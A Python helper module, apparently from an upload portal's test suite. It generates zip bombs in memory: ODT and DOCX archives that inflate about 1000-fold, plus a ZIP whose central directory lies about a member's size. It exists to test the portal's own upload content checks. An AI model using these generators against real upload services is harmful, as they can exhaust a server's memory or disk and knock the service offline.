"""Hostile archives, built in memory: zip bombs and a ZIP whose central directory lies.

Used by `bench/attacks/zip_bomb.py` against a running portal and by the tests of the content
checks (tests/portal/test_uploads.py). Only the standard library.
"""

from __future__ import annotations

import struct
import zlib

MB = 1 << 20
ODT = b"application/vnd.oasis.opendocument.text"


def bomb(prefix: bytes, size: int) -> tuple[bytes, int, int]:
    """Raw deflate of `prefix` and then spaces, about `size` bytes long, that inflates
    1000-fold: (compressed, crc32, inflated size). After a full flush, identical 1 MB blocks
    compress to identical bytes, so the stream is one compressed block repeated."""
    chunk = b" " * MB
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix + chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    assert packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH) == block
    tail = packer.flush()
    count = max(1, (size - len(head) - len(tail)) // len(block))
    crc = zlib.crc32(prefix + chunk)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    return head + block * count + tail, crc, len(prefix) + len(chunk) * (count + 1)


def archive(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP of (name, raw data, method, crc32, declared size) members, written by hand so that
    the declared size can lie, and sizes over 4 GB get ZIP64 extra fields (local header and
    central directory; the archive itself stays small, so no ZIP64 end record)."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        encoded = name.encode()
        big = size >= 0xFFFFFFFF or len(data) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(data)) if big else b""
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(data), size)
        # version needed, flags, method, time, date, crc, sizes, name and extra length
        fields = struct.pack(
            "<5H3I2H", 45 if big else 20, 0, method, 0, 0x21, crc, *sizes, len(encoded), len(extra)
        )
        # comment length, disk, internal and external attributes, offset of the local header
        where = struct.pack("<3H2I", 0, 0, 0, 0, len(out))
        out += b"PK\x03\x04" + fields + encoded + extra + data
        central += b"PK\x01\x02" + struct.pack("<H", 0x031E) + fields + where + encoded + extra
    count = len(members)
    end = struct.pack("<4H2IH", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


def stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return name, data, 0, zlib.crc32(data), len(data)


def odt_bomb(megabytes: int) -> bytes:
    data, crc, size = bomb(ODT, megabytes * MB)
    return archive([("mimetype", data, 8, crc, size), stored("content.xml", b"<x/>")])


def docx_bomb(megabytes: int) -> bytes:
    data, crc, size = bomb(b"<w:document>", megabytes * MB)
    return archive(
        [stored("[Content_Types].xml", b"<Types/>"), ("word/document.xml", data, 8, crc, size)]
    )


def odt_lying(megabytes: int) -> bytes:
    """The central directory says the mimetype member is 39 bytes; its deflate goes on for GBs."""
    data, _crc, _size = bomb(ODT, megabytes * MB)
    return archive(
        [("mimetype", data, 8, zlib.crc32(ODT), len(ODT)), stored("content.xml", b"<x/>")]
    )
